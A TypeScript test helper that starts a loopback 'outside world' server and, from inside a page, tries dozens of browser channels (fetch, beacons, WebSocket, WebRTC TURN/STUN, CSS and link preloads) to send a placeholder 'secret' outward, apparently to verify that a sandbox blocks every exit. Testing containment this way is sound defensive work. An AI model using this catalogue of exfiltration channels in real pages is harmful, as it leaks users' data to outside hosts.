import { createSocket } from 'node:dgram';
import { createServer, type Socket } from 'node:net';

/** A stranger on loopback that answers nobody and counts who came, by TCP and by UDP. */
export type OutsideWorld = {
  readonly port: number;
  readonly connections: () => number;
  readonly datagrams: () => number;
  readonly close: () => Promise<void>;
};

export async function startOutsideWorld(): Promise<OutsideWorld> {
  let connections = 0;
  let datagrams = 0;
  const sockets = new Set<Socket>();
  const tcp = createServer((socket) => {
    connections += 1;
    sockets.add(socket);
    socket.on('error', () => undefined);
    socket.end('HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\nconnection: close\r\n\r\n');
  });
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
  const address = tcp.address();
  if (address === null || typeof address === 'string') throw new Error('No port');
  const udp = createSocket('udp4', () => void (datagrams += 1));
  await new Promise<void>((resolve) => udp.bind(address.port, '127.0.0.1', resolve));
  return {
    port: address.port,
    connections: () => connections,
    datagrams: () => datagrams,
    close: async () => {
      for (const socket of sockets) socket.destroy();
      await new Promise<void>((resolve) => udp.close(() => resolve()));
      await new Promise<void>((resolve) => tcp.close(() => resolve()));
    },
  };
}

/**
 * Runs inside a page: tries every way in which a page can reach out, towards a host by name and a port on loopback, and
 * returns how many it tried, after each that can tell has told how it ended.
 */
export async function reachOut({ host, port }: { readonly host: string; readonly port: number }): Promise<number> {
  const base = `http://127.0.0.1:${port}`;
  const pending: Promise<unknown>[] = [];
  const added: HTMLElement[] = [];
  let tries = 0;
  const attempt = (action: () => unknown): void => {
    tries += 1;
    try {
      const end = Promise.resolve(action()).catch(() => undefined);
      // Some never tell.
      pending.push(Promise.race([end, new Promise((resolve) => setTimeout(resolve, 1_500))]));
    } catch {
      // Refused, which is what is wanted.
    }
  };
  const settled = (element: HTMLElement): Promise<unknown> =>
    new Promise((resolve) => {
      for (const type of ['load', 'error']) element.addEventListener(type, resolve, { once: true });
    });
  const add = (name: string, attributes: Readonly<Record<string, string>>): void =>
    attempt(() => {
      const element = document.createElement(name);
      const end = settled(element);
      added.push(element);
      for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
      document.body.append(element);
      return end;
    });

  attempt(() => fetch(`${base}/fetch`));
  attempt(() => fetch(`${base}/no-cors`, { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true }));
  attempt(() => navigator.sendBeacon(`${base}/beacon`, 'secret'));
  attempt(() => {
    const request = new XMLHttpRequest();
    request.open('GET', `${base}/xhr`);
    request.send();
  });
  attempt(() => new Promise((resolve) => new WebSocket(`ws://127.0.0.1:${port}/socket`).addEventListener('close', resolve)));
  attempt(() => new Promise((resolve) => new EventSource(`${base}/events`).addEventListener('error', resolve)));
  attempt(() => Reflect.construct(Reflect.get(globalThis, 'WebTransport'), [`https://127.0.0.1:${port}/transport`]).ready);
  for (const name of ['img', 'iframe', 'embed', 'video', 'audio', 'source', 'track', 'portal', 'frame']) add(name, { src: `${base}/${name}`, autoplay: '' });
  add('script', { src: `${base}/script.js` });
  add('script', { src: `${base}/module.js`, type: 'module' });
  add('img', { srcset: `${base}/srcset 1x` });
  add('object', { data: `${base}/object` });
  add('video', { poster: `${base}/poster` });
  add('input', { type: 'image', src: `${base}/input` });
  add('a', { ping: `${base}/ping`, href: '#' });
  add('body', { background: `${base}/background` });
  add('div', { style: `background: url(${base}/style); list-style: url(${base}/list); cursor: url(${base}/cursor), auto` });
  for (const rel of ['stylesheet', 'icon', 'manifest', 'prefetch', 'modulepreload', 'preconnect', 'prerender', 'next']) add('link', { rel, href: `${base}/${rel}` });
  for (const kind of ['image', 'script', 'style', 'font', 'fetch']) add('link', { rel: 'preload', as: kind, href: `${base}/preload-${kind}` });
  for (const rel of ['dns-prefetch', 'preconnect', 'stylesheet', 'icon', 'prefetch']) add('link', { rel, href: `https://${rel}.${host}/` });
  attempt(() => {
    const sheet = new CSSStyleSheet();
    sheet.insertRule(`@font-face { font-family: Stranger; src: url(${base}/font) }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    return document.fonts.load('12px Stranger');
  });
  attempt(() => {
    const style = document.createElement('style');
    style.textContent = `@import url(${base}/import); body::after { content: url(${base}/content) }`;
    document.head.append(style);
    requestAnimationFrame(() => style.remove());
  });
  attempt(() => new Image().decode.call(Object.assign(new Image(), { src: `${base}/image` })));
  attempt(async () => {
    const peer = new RTCPeerConnection({
      iceServers: [
        { urls: [`turn:127.0.0.1:${port}?transport=tcp`, `turn:127.0.0.1:${port}`, `turn:turn.${host}`], username: 'secret', credential: 'secret' },
        { urls: [`stun:127.0.0.1:${port}`, `stun:stun.${host}`] },
      ],
    });
    const gathered = new Promise((resolve) => {
      peer.addEventListener('icegatheringstatechange', () => peer.iceGatheringState === 'complete' && resolve(null));
    });
    peer.createDataChannel('way out');
    await peer.setLocalDescription(await peer.createOffer());
    await gathered;
  });
  await Promise.all(pending);
  for (const element of added) element.remove();
  return tries;
}
